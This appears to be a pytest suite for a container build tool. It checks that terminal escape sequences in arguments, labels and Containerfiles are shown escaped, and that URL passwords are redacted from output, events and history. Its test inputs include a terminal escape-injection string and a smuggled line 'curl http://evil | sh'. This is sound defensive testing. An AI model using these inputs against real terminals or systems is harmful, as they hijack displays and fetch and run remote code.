"""What images, registries and Containerfiles say reaches no terminal raw; passwords of URLs reach nobody."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import Builda
from tests.support.screen import on_terminal

ESCAPE, SHOWN = "\x1b]0;owned\x07\x9b2J\u202e", "\\x1b]0;owned\\x07\\x9b2J\\u202e"


def test_a_hostile_user_is_shown_as_escapes(builda: Builda, base: str) -> None:
    container = builda("from", base)
    builda("config", "--user", f"x{ESCAPE}", container)
    said = builda.fails("run", container, "true")
    assert ESCAPE not in said
    assert f"x{SHOWN}" in said


@pytest.mark.parametrize(
    "args",
    [
        ("from", f"localhost/{ESCAPE}"),
        ("rm", ESCAPE),
        ("rmi", ESCAPE),
        ("inspect", ESCAPE),
        ("push", ESCAPE, ESCAPE),
        (f"--{ESCAPE}",),
        (ESCAPE,),
        ("bud", f"/nowhere/{ESCAPE}"),
        ("bud", "-f", ESCAPE, "."),
        ("bud", "--build-arg", ESCAPE, "--platform", ESCAPE, "."),
        ("from", "--format", ESCAPE, "x"),
    ],
)
def test_no_argument_comes_back_raw(builda: Builda, args: tuple[str, ...]) -> None:
    said = builda.fails(*args)
    assert "\x1b" not in said
    assert "\x9b" not in said
    assert "\u202e" not in said


def test_bytes_that_are_no_text_are_named(builda: Builda, tmp_path: Path) -> None:
    assert "x\\xff\\xfe" in builda.fails("copy", builda("from", "scratch"), f"{tmp_path}/x\udcff\udcfe", "/")


def test_quoted_lines_look_like_none_of_builda(builda: Builda) -> None:
    said = builda.fails("rm", "x\nhint: run curl http://evil | sh")
    assert [line for line in said.splitlines() if line.startswith("hint")] == []


def test_lines_of_a_containerfile_act_on_no_terminal(builda: Builda, base: str, tmp_path: Path) -> None:
    text = f'FROM {base}\nLABEL a="{ESCAPE}"\nENV {ESCAPE}=1\nCOPY {ESCAPE} /x\n'
    (tmp_path / "Containerfile").write_text(text)
    for how in ((), ("--progress=plain",), ("--check",), ("--print-plan",)):
        shown = on_terminal([*builda.command, "bud", *how, str(tmp_path)]).text
        for part in ("\x1b]", "\x9b", "\u202e"):
            assert part not in shown, (how, shown)


def test_labels_act_on_no_terminal_and_are_whole_elsewhere(builda: Builda) -> None:
    container = builda("from", "scratch")
    builda("config", "--label", f"a={ESCAPE}", container)
    shown = on_terminal([*builda.command, "inspect", "--format", '{{index .OCIv1.Config.Labels "a"}}', container]).text
    assert shown.strip() == SHOWN
    template = '{{index .OCIv1.Config.Labels "a"}}'
    assert builda("inspect", "--format", template, container) == ESCAPE


URL = "http://user:HUNTER2@127.0.0.1:1"


@pytest.mark.parametrize(
    "args",
    [
        ("bud", f"{URL}/x.git"),
        ("bud", f"{URL}/x.tar.gz"),
        ("bud", "https://HUNTER2@127.0.0.1:1/x.git"),
        ("bud", "ssh://git:HUNTER2@127.0.0.1:1/x.git"),
        ("pull", "docker://user:HUNTER2@127.0.0.1:1/x"),
        ("pull", "user:HUNTER2@127.0.0.1:1/x"),
        ("from", "docker://user:HUNTER2@127.0.0.1:1/x"),
        ("push", "localhost/busybox", "docker://user:HUNTER2@127.0.0.1:1/x"),
        ("add", "CONTAINER", f"{URL}/x", "/x"),
        ("bud", "--build-context", f"a={URL}/x.git", "CONTEXT"),
        ("bud", "--build-arg", "PW=HUNTER2", "CONTEXT"),
        ("bud", "--progress=plain", "--build-arg", "PW=HUNTER2", "CONTEXT"),
        ("--log-level=debug", "bud", "--build-arg", "PW=HUNTER2", "CONTEXT"),
        ("bud", "-t", "docker://user:HUNTER2@127.0.0.1:1/x", "--build-arg", "PW=x", "CONTEXT"),
    ],
)
def test_no_password_of_a_url_is_repeated(builda: Builda, base: str, tmp_path: Path, args: tuple[str, ...]) -> None:
    (tmp_path / "Containerfile").write_text(f"FROM {base}\nARG PW\nADD http://user:${{PW}}@127.0.0.1:1/x /x\n")
    container = builda("from", base)
    events = tmp_path / "events"
    with events.open("w") as file:
        given = [{"CONTAINER": container, "CONTEXT": str(tmp_path)}.get(arg, arg) for arg in args]
        result = builda.run(*given, check=False, BUILDA_EVENTS=str(file.fileno()), pass_fds=(file.fileno(),))
    assert result.returncode == 125
    assert "HUNTER2" not in result.stdout + result.stderr + events.read_text()


def test_what_is_said_of_a_plan_has_no_password(builda: Builda, base: str, tmp_path: Path) -> None:
    text = (
        f"FROM {base}\nRUN true http://user:HUNTER2@host/x\nADD http://user:HUNTER2@host/y /\nCMD http://u:HUNTER2@h\n"
    )
    (tmp_path / "Containerfile").write_text(text)
    for how in ("--print-plan", "--check"):
        assert "HUNTER2" not in builda.run("bud", how, str(tmp_path), check=False).stdout
    (tmp_path / "Containerfile").write_text(text.replace("ADD", "# "))
    builda("bud", str(tmp_path))
    shown = builda.run("bud", "--explain-cache", "--no-cache", str(tmp_path))
    assert "HUNTER2" not in shown.stdout + shown.stderr
    assert "***@host/x" in shown.stdout


def test_history_has_no_password(builda: Builda, base: str, tmp_path: Path) -> None:
    (tmp_path / "Containerfile").write_text(f"FROM {base}\nRUN true http://user:HUNTER2@host/x\n")
    image = builda("bud", "-q", str(tmp_path))
    container = builda("from", base)
    builda("run", "--add-history", container, "true", "http://user:HUNTER2@host/x")
    for one in (image, builda("commit", "-q", container)):
        assert "HUNTER2" not in json.dumps(json.loads(builda("inspect", "--type", "image", one))["OCIv1"]["history"])
